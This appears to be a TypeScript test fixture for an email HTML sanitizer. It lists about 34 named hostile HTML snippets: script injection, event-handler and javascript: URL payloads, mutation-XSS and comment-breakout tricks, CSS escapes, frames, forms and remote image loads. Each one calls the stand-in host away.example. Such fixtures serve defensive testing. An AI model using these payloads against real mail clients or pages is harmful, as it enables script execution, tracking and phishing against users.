const AWAY = 'https://away.example'
/** What a mail would run: it shows itself by a request. */
const RUN = `fetch('${AWAY}/ran')`
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><image href="${AWAY}/i"/></svg>`

/** HTML of mails that wants to run something, to fetch something, or to lead somebody astray; all names once. */
export const hostile: readonly [name: string, html: string][] = [
  ['a script', `<script>${RUN}</script>`],
  ['a script from elsewhere', `<script src="${AWAY}/s.js"></script>`],
  ['a script in broken tags', `<scr<script>ipt>${RUN}</scr</script>ipt><<script>${RUN}//<</script>`],
  [
    'a script of another space',
    `<svg><script>${RUN}</script></svg><math><mtext><script>${RUN}</script></mtext></math>`,
  ],
  ['an error of an image', `<img src="x:" onerror="${RUN}"><image src="x:" onerror="${RUN}">`],
  ['an event in odd letters', `<img/src="x:"/oNeRrOr\n=\n"${RUN}"><body onload="${RUN}" onpageshow="${RUN}">`],
  ['an event of an animation', `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"/></svg>`],
  ['a focus', `<input autofocus onfocus="${RUN}"><div tabindex="1" autofocus onfocus="${RUN}">x</div>`],
  ['an open list', `<details open ontoggle="${RUN}"><summary>x</summary></details>`],
  [
    'a sound and a film',
    `<audio src="${AWAY}/a" autoplay></audio><video poster="${AWAY}/p" src="${AWAY}/v" onerror="${RUN}"></video>`,
  ],
  ['a link that runs', `<a href="javascript:${RUN}" id="go">x</a><a href="&#106;avascript&#58;${RUN}">y</a>`],
  ['a link with what is no letter', `<a href="java\tscript:${RUN}">x</a><a href="\u0001javascript:${RUN}">y</a>`],
  ['a link to a page of its own', `<a href="data:text/html,<script>${RUN}</script>">x</a>`],
  ['a frame', `<iframe src="${AWAY}/f"></iframe><iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`],
  ['frames of old', `<frameset><frame src="${AWAY}/f"></frameset><noframes><img src="${AWAY}/n"></noframes>`],
  [
    'an object',
    `<object data="${AWAY}/o"></object><embed src="${AWAY}/e"><applet code="x" codebase="${AWAY}"></applet>`,
  ],
  [
    'a form',
    `<form action="${AWAY}/form" id="f"><input name="p"></form><button form="f" formaction="${AWAY}/b">x</button>`,
  ],
  ['another page', `<meta http-equiv="refresh" content="0;url=${AWAY}/m"><base href="${AWAY}/"><img src="base.png">`],
  [
    'a link to what is loaded',
    `<link rel="stylesheet" href="${AWAY}/l.css"><link rel="prefetch" href="${AWAY}/l"><link rel="dns-prefetch" href="//away.example">`,
  ],
  [
    'a sheet',
    `<style>@import "${AWAY}/s.css"; @font-face{font-family:x;src:url(${AWAY}/f)} body{background:url(${AWAY}/b);font-family:x}</style>x`,
  ],
  [
    'a style that fetches',
    `<div style="background:url('${AWAY}/b')">x</div><p style="list-style-image:url(${AWAY}/l);display:list-item">x</p>`,
  ],
  [
    'a style in escapes',
    `<div style="background:\\75 rl(${AWAY}/e)">x</div><div style="background:u/**/rl(${AWAY}/c)">x</div>`,
  ],
  [
    'a style of several pictures',
    `<div style="background-image:image-set('${AWAY}/i' 1x);content:url(${AWAY}/c)">x</div>`,
  ],
  [
    'a style that runs in old programs',
    `<div style="width:expression(${RUN});behavior:url(${AWAY}/b);-moz-binding:url(${AWAY}/m)">x</div>`,
  ],
  ['a style that covers the page', `<div style="position:fixed;inset:0;z-index:9;background:#fff">x</div>`],
  [
    'pictures of every sort',
    `<img src="${AWAY}/1"><img srcset="${AWAY}/2 2x"><picture><source srcset="${AWAY}/3"><img src="//away.example/4"></picture><table background="${AWAY}/5"><td background="${AWAY}/6">x</td></table><img lowsrc="${AWAY}/7" dynsrc="${AWAY}/8" longdesc="${AWAY}/9">`,
  ],
  [
    'a picture that is a page',
    `<img src="data:image/svg+xml;base64,${Buffer.from(SVG).toString('base64')}"><img src="data:text/html,<script>${RUN}</script>">`,
  ],
  [
    'a drawing',
    `${SVG}<svg><use href="${AWAY}/u#x"/><foreignObject><iframe src="${AWAY}/f"></iframe></foreignObject></svg>`,
  ],
  [
    'words that are none',
    `<noscript><p title="</noscript><img src=x: onerror=${RUN}>"></noscript><textarea></textarea><img src=x: onerror=${RUN}>`,
  ],
  [
    'a comment that ends early',
    `<!--><img src=x: onerror=${RUN}>--><!--[if gte mso 9]><img src="${AWAY}/mso"><![endif]--><![CDATA[<img src=x: onerror=${RUN}>]]>`,
  ],
  [
    'nesting that turns over',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${RUN}&gt;">`,
  ],
  [
    'a template',
    `<template><img src="${AWAY}/t"></template><xmp><img src="${AWAY}/x"></xmp><plaintext><img src="${AWAY}/p">`,
  ],
  [
    'a mark of our own',
    `<img data-picture="0" alt="&quot; onerror=&quot;${RUN}"> data-picture="0" <img src="cid:nothing" alt='x" src="${AWAY}/q'>`,
  ],
  [
    'what a browser asks for beforehand',
    `<a href="${AWAY}/ping" ping="${AWAY}/p">x</a><p is="x-y" xlink:href="${AWAY}/x" cite="${AWAY}/c">x</p><html manifest="${AWAY}/m">`,
  ],
]
